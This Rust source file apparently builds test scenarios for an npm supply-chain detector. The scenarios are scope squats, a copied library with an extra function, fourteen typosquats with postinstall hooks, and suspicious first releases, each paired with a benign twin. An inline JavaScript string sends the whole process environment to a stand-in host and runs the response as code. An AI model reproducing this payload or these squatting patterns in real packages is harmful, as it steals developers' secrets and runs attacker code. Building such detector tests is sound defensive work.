//! R17, R18, R19, and incidents that begin with a name: squats, copies, campaigns of newcomers.

use jiff::Timestamp;

use super::deviations::{expected, package, release};
use super::parts::Stage;
use super::{Scenario, history, minutes_before};
use crate::payloads::{SIBLING_PATCH, TOKENS, library, library_with_extra};
use crate::samples::{FORMATTER, QUERY_LIBRARY, WHOLE_ENVIRONMENT, aimed_at};
use crate::{Package, Release};

fn popular(name: &str, text: &str, now: Timestamp) -> Package {
    let versions = ["10.0.0", "11.0.0", "12.0.0", "13.0.0", "13.2.0"];
    package(name, "the-owners").releases(history(now, &versions, (1500, 60), |version| {
        Release::new(version).file("index.js", text)
    }))
}

/// R17: a scope that is a trusted one and a word more, with a real package's name and a command that
/// runs at once.
///
/// Twin: a fork of the same package in somebody's own scope.
pub fn brand_scope(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    stage
        .registry
        .add(popular("@tanstack/react-query", QUERY_LIBRARY, now));
    let text = aimed_at(WHOLE_ENVIRONMENT, &stage.sink.url());
    let squat = Package::new("@tanstack-sdk/react-query")
        .maintainer("sdk-release-77")
        .release(
            Release::new("5.90.3")
                .file("index.js", QUERY_LIBRARY)
                .file("cli.js", format!("#!/usr/bin/env node\n{text}"))
                .bin("react-query", "cli.js")
                .published_at(minutes_before(now, 20)),
        );
    stage.newcomer(
        squat,
        ("@tanstack-sdk/react-query", "5.90.3"),
        &["I07"],
        vec![expected("M2", "name", "a trusted scope with a word added")],
    );
    stage.registry.add(
        package("@olive-grove/react-query", "olive").release(
            Release::new("5.90.3")
                .file("index.js", QUERY_LIBRARY)
                .published_at(minutes_before(now, 30)),
        ),
    );
    stage.twin(
        "@olive-grove/react-query",
        "5.90.3",
        "a fork in a scope of its own",
    );
    stage.end(
        "R17-brand-scope",
        "A trusted scope with a word added, a real package's name, a command.",
    )
}

/// R18: a whole popular library with one function more.
///
/// Twin: a fork in a user's scope that adds nothing.
pub fn copied_library(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    stage.registry.add(popular("mathjs", &library(), now));
    let copy = Package::new("mathjs-min")
        .maintainer("mathlabs-4471")
        .release(
            Release::new("13.2.1")
                .file("index.js", library_with_extra())
                .published_at(minutes_before(now, 33)),
        );
    stage.newcomer(
        copy,
        ("mathjs-min", "13.2.1"),
        &["I12", "I13"],
        vec![expected(
            "M1",
            "name",
            "named after the original, and nearly its code",
        )],
    );
    stage.registry.add(
        package("@olive-grove/mathjs", "olive").release(
            Release::new("13.2.1-olive.1")
                .file("index.js", library())
                .published_at(minutes_before(now, 30)),
        ),
    );
    stage.twin(
        "@olive-grove/mathjs",
        "13.2.1-olive.1",
        "a fork in a scope of its own",
    );
    stage.end(
        "R18-copied-library",
        "A copy of a popular library with one function added.",
    )
}

/// R19: fourteen lookalikes by one new account within an hour.
///
/// Twin: an account that publishes fourteen packages of one new project.
pub fn lookalike_campaign(now: Timestamp) -> Scenario {
    const TARGETS: [(&str, &str); 14] = [
        ("crossenv", "cross-env"),
        ("mongose", "mongoose"),
        ("expresss", "express"),
        ("lodahs", "lodash"),
        ("axois", "axios"),
        ("chalkk", "chalk"),
        ("webpakc", "webpack"),
        ("electorn", "electron"),
        ("hardhta", "hardhat"),
        ("typescirpt", "typescript"),
        ("puppeter", "puppeteer"),
        ("discordjs", "discord.js"),
        ("babelcli", "@babel/cli"),
        ("comander", "commander"),
    ];
    let mut stage = Stage::new(now);
    let collect = aimed_at(TOKENS, &stage.sink.url());
    for (position, (name, target)) in (0..).zip(TARGETS) {
        stage.registry.add(popular(target, FORMATTER, now));
        let squat = Package::new(name).maintainer("hacktask-9021").release(
            release("1.0.0")
                .dependency(target, "*")
                .file("package-setup.js", &collect)
                .script("postinstall", "node package-setup.js")
                .published_at(minutes_before(now, 55 - position * 3)),
        );
        stage.newcomer(
            squat,
            (name, "1.0.0"),
            &["I01", "I35"],
            vec![
                expected("M1", "name", "a lookalike of a popular name"),
                expected("M7", "execution", "a hook in a first release"),
            ],
        );
    }
    for part in ["parser", "printer", "runtime"] {
        let name: &'static str = Box::leak(format!("millwheel-{part}").into_boxed_str());
        let new =
            package(name, "ines").release(release("0.1.0").published_at(minutes_before(now, 14)));
        stage.registry.add(new);
        stage.twin(name, "0.1.0", "one of several packages of one new project");
    }
    stage.end(
        "R19-lookalike-campaign",
        "Fourteen lookalikes by one new account within an hour.",
    )
}

/// First releases of incidents whose names are made up or plausible.
pub fn first_releases(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let newcomer = |name: &str| Package::new(name).maintainer("jpd-dev-8831");
    stage.newcomer(
        newcomer("unused-imports").release(
            release("9.9.0")
                .dependency(
                    "ui-styles-pkg",
                    "http://packages.storeartifacts.invalid/npm/unused-imports",
                )
                .published_at(minutes_before(now, 20)),
        ),
        ("unused-imports", "9.9.0"),
        &["I30"],
        vec![expected(
            "M9",
            "dependency",
            "a tarball by plain http in a first release",
        )],
    );
    stage.newcomer(
        newcomer("ethers-provider2").release(
            release("1.18.0")
                .file("install.js", SIBLING_PATCH)
                .script("install", "node install.js")
                .published_at(minutes_before(now, 26)),
        ),
        ("ethers-provider2", "1.18.0"),
        &["I19"],
        vec![expected("M7", "execution", "a hook in a first release")],
    );
    let post = "'use strict';\n\nconst https = require('https');\n\nconst request = \
                https.request('https://vercel-check.invalid/api', { method: 'POST' }, (answer) => {\n  let text = '';\n  \
                answer.on('data', (part) => (text += part));\n  answer.on('end', () => new Function('require', \
                text)(require));\n});\nrequest.end(JSON.stringify(process.env));\n";
    stage.newcomer(
        newcomer("vite-plugin-next-refresh").release(
            release("1.0.2")
                .file("index.js", post)
                .published_at(minutes_before(now, 31)),
        ),
        ("vite-plugin-next-refresh", "1.0.2"),
        &["I15"],
        vec![expected(
            "B12",
            "code",
            "what the network answers becomes code",
        )],
    );
    stage.end(
        "first-releases",
        "New packages under plausible names that no one had before.",
    )
}
